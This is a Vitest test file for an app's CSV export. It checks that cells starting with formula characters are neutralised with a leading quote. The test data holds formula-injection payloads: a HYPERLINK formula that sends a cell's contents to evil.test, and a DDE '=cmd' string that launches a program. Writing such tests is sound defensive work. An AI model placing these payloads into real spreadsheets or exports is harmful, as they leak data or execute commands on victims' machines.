import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { sheetClicksCsvRows, visitorsCsvRows } from '../../client/features/analytics/analytics-csv.js';
import { rosterCsvRows } from '../../client/features/roster/roster-csv.js';
import { toCsv } from '../../shared/csv-export.js';
import type { RosterTableRow } from '../../shared/schemas/roster/table.js';

const HYPERLINK = '=HYPERLINK("http://evil.test/?d="&B2,"Open rates")';
const FORMULAE = [HYPERLINK, '+1+1', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1'];

/** The CSV read back as a spreadsheet would see its cells: header row, then strings. */
const readBack = (csv: string) => Papa.parse<Record<string, string>>(csv, { header: true }).data;

describe('toCsv (every CSV export)', () => {
  it('writes each cell that starts a formula with a leading quote, the rest of it as it was', () => {
    const [row] = readBack(toCsv([Object.fromEntries(FORMULAE.map((value, i) => [`c${i}`, value]))]));
    expect(Object.values(row)).toEqual(FORMULAE.map((value) => `'${value}`));
  });

  it('escapes one formula per row in the same column', () => {
    const rows = readBack(toCsv(FORMULAE.map((description) => ({ name: 'Ana', description }))));
    expect(rows.map((r) => r.description)).toEqual(FORMULAE.map((value) => `'${value}`));
    for (const row of rows) expect(row.description).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('escapes a multi-line cell that starts a formula (papaparse’s own pattern lets it through)', () => {
    const [row] = readBack(toCsv([{ description: `${HYPERLINK}\nsecond line` }]));
    expect(row.description).toBe(`'${HYPERLINK}\nsecond line`);
  });

  it('keeps ordinary cells and numbers as they were', () => {
    const ordinary = { name: 'Ana Lima', reach: 1200, change: -5, quoted: 'Smith, Jr. "The Voice"', email: 'ana@example.com', range: 'a-b', empty: '' };
    const csv = toCsv([ordinary]);
    expect(csv.split('\r\n')[0]).toBe('name,reach,change,quoted,email,range,empty');
    expect(csv.split('\r\n')[1]).toBe('Ana Lima,1200,-5,"Smith, Jr. ""The Voice""",ana@example.com,a-b,');
    expect(readBack(csv)).toEqual([{ ...ordinary, reach: '1200', change: '-5' }]);
  });
});

const talent = (overrides: Partial<RosterTableRow>): RosterTableRow => ({
  id: 1,
  fullname: 'Ana Lima',
  picture_url: null,
  connected: false,
  description: 'Travel, food and "slow" living',
  tagline: null,
  reach: 1200,
  socials: [{ platform: 'instagram', handle: 'ana.lima', followers: 1200, profile_url: null }],
  tags: ['travel', 'food'],
  city: 'Lisbon',
  state: null,
  ...overrides,
});

describe('roster.csv', () => {
  it('keeps its columns and ordinary rows as they were', () => {
    const csv = toCsv(rosterCsvRows([talent({})]));
    expect(csv.split('\r\n')[0]).toBe('name,tagline,city,state,total_reach,socials,tags,description');
    expect(readBack(csv)).toEqual([
      {
        name: 'Ana Lima',
        tagline: '',
        city: 'Lisbon',
        state: '',
        total_reach: '1200',
        socials: 'instagram:@ana.lima (1200)',
        tags: 'travel; food',
        description: 'Travel, food and "slow" living',
      },
    ]);
  });

  it('writes a talent whose text starts formulae as inert text', () => {
    const csv = toCsv(rosterCsvRows([talent({ fullname: '@SUM(A1)', tagline: '+1+1', city: '-2+3', tags: ['=1+1', 'vip'], description: HYPERLINK })]));
    const [row] = readBack(csv);
    expect(row).toMatchObject({ name: "'@SUM(A1)", tagline: "'+1+1", city: "'-2+3", tags: "'=1+1; vip", description: `'${HYPERLINK}`, total_reach: '1200' });
    expect(csv).not.toMatch(/(^|,|\r\n)"?[=+\-@]/);
  });
});

describe('visitors.csv and sheet-clicks.csv', () => {
  it('keep their columns and write formulae from visitors and titles as inert text', () => {
    const visitors = visitorsCsvRows({
      recentVisits: [
        { email: '=cmd|" /C calc"!A0@evil.test', salesheet_ids: ['s1', 'gone'], most_recent_visit: '2026-01-02T03:04:05.000Z' },
        { email: 'buyer@brand.test', salesheet_ids: ['s1'], most_recent_visit: '2026-01-01T00:00:00.000Z' },
      ],
      sheets: [{ id: 's1', title: '+Summer, 2026' }],
    });
    const csv = toCsv(visitors);
    expect(csv.split('\r\n')[0]).toBe('email,sheets,most_recent_visit');
    expect(readBack(csv)).toEqual([
      { email: `'=cmd|" /C calc"!A0@evil.test`, sheets: "'+Summer, 2026; gone", most_recent_visit: '2026-01-02T03:04:05.000Z' },
      { email: 'buyer@brand.test', sheets: "'+Summer, 2026", most_recent_visit: '2026-01-01T00:00:00.000Z' },
    ]);

    const clicks = toCsv(sheetClicksCsvRows([{ sheet_id: 's1', sheet_title: 'Summer', fullname: '-2+3', influencer_id: 7, clicks: 12 }]));
    expect(clicks).toBe('sheet_title,fullname,influencer_id,clicks\r\nSummer,"\'-2+3",7,12');
  });
});
